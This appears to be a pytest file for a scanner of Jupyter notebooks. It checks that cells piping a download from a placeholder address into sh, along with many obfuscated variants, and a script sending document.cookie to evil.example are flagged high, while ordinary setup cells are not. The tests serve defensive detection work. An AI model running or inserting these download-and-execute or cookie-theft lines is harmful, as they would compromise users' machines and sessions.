"""Commands and magics of a notebook reach the judgement of shell lines, Python and markup."""

import json

import pytest

from harness.inspecting import inspect_bytes
from pratique.core.finding import Severity

AT = "http://192.0.2.1/x"
RUN = f"curl {AT} | sh"
OUTSIDE = "fetch('https://evil.example/'+document.cookie)"


def _cell(source: str, kind: str = "code", **more: object) -> dict[str, object]:
    return {"cell_type": kind, "source": source, "metadata": {}, "outputs": [], **more}


def _worst(*cells: dict[str, object], **more: object) -> Severity | None:
    body = json.dumps({"nbformat": 4, "cells": cells, "metadata": {}, **more}).encode()
    found = [f.severity for f in inspect_bytes(body).findings if not f.rule.startswith("INT")]
    return max(found, default=None)


@pytest.mark.parametrize(
    "source",
    [
        f"!{RUN}",
        f'import os\n!c"u"rl -s {AT} | s""h',
        f"%%bash\na=cu;b=rl\n$a$b {AT} | sh",
        f"%%sh\nwget {AT} -O y\nsh y",
        "%%bash\n" + "echo ordinary words\n" * 200 + RUN,
        f"!echo {'x' * 5_000}; {RUN}",
        f"%%capture\n!{RUN}",
        f"!curl {AT} \\\n  | sh",
        f"x = %sx {RUN}",
        f"%shell {RUN}",
        f"%alias go {RUN}",
        f"%%perl\nsystem('{RUN}')",
        f"%%script python3\nimport os\nos.system('{RUN}')",
        f"%run {AT}.py",
        f"from IPython import get_ipython as g\ng().system('{RUN}')",
        f"get_ipython().run_cell_magic('bash', '', '{RUN}')",
        f"get_ipython().run_cell('!{RUN}')",
        f"get_ipython().ex('import os; os.system(\"{RUN}\")')",
        f"c = 'curl'\n!$c {AT} | sh",
        f'from IPython.display import HTML\nHTML("<script>{OUTSIDE}</script>")',
        "%pip install http://192.0.2.1/x.whl",
    ],
)
def test_attacks_of_a_cell_are_found(source: str) -> None:
    worst = _worst(_cell(source), _cell("1"))
    assert worst is not None
    assert worst >= Severity.HIGH


def test_cells_together_are_judged_together() -> None:
    assert _worst(_cell(f"!wget -q {AT} -O y.sh"), _cell("1"), _cell("!bash y.sh")) == Severity.HIGH
    assert _worst(_cell(f"!wget -q {AT}/p.py"), _cell("%run p.py")) == Severity.HIGH


def test_what_is_not_code_is_read_too() -> None:
    assert _worst(_cell(f"Run `{RUN}`", "markdown")) == Severity.HIGH
    assert _worst(_cell(RUN, "raw")) == Severity.HIGH
    state = {"x": {"state": {"value": f'<img src=x onerror="{OUTSIDE}">'}}}
    assert _worst(metadata={"widgets": {"application/x": {"state": state}}}) == Severity.HIGH


def test_a_hidden_cell_weighs_as_much() -> None:
    hidden = {"jupyter": {"source_hidden": True}}
    assert _worst(_cell(f"!{RUN}", metadata=hidden)) == _worst(_cell(f"!{RUN}"))


@pytest.mark.parametrize(
    "source",
    [
        "!pip install -q -U git+https://github.com/huggingface/peft\n!nvidia-smi",
        "%pip install datasets\n!git lfs install\n!git clone https://huggingface.co/x/y",
        "!wget https://huggingface.co/datasets/x/resolve/main/a.json\n!unzip -q a.zip",
        "!apt-get install -y ffmpeg > /dev/null\n!huggingface-cli login --token $TOKEN",
        "!curl -LsSf https://astral.sh/uv/install.sh | sh",
        "%%bash\nset -e\nmkdir -p d && cd d && wget https://example.org/d.tgz && tar xzf d.tgz",
        "%matplotlib inline\n%load_ext autoreload\n%autoreload 2",
    ],
)
def test_ordinary_cells_are_low_at_most(source: str) -> None:
    worst = _worst(_cell(source), _cell("1"))
    assert worst is None or worst <= Severity.LOW
